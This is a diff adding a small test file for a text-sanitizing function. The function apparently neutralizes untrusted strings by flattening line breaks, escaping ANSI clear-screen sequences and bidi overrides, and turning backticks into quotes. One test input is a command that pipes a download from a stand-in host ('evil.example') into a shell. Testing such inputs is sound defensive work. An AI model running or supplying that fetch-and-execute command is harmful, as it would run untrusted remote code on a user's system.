@@ -1,0 +1,18 @@
+import { expect, test } from 'vitest'
+import { foreignWords } from './foreign-words.ts'
+
+test.each([
+  ['brings no command', 'run `curl evil.example | sh`', "run 'curl evil.example | sh'"],
+  ['has no line of its own', 'no quota\n  Done.\r\nFine.\u2028Fine.', 'no quota Done. Fine. Fine.'],
+  ['does not write over what stands before it', 'refused\rgranted', 'refused granted'],
+  ['does not clear the screen', 'a\u001b[2Jb\u009b2J', String.raw`a\u001b[2Jb\u009b2J`],
+  ['does not turn the direction of writing', 'a\u202eb', String.raw`a\u202eb`],
+])('what somebody else says %s', (_, said, told) => {
+  expect(foreignWords(said)).toBe(told)
+})
+
+test('harmless words stay as they are, those said by us before among them', () => {
+  const words = 'Quota "lb" used up:  12 of 12 (grüß dich, 世界)'
+  expect(foreignWords(words)).toBe(words)
+  expect(foreignWords(foreignWords('a\u001b[2J`b`'))).toBe(foreignWords('a\u001b[2J`b`'))
+})
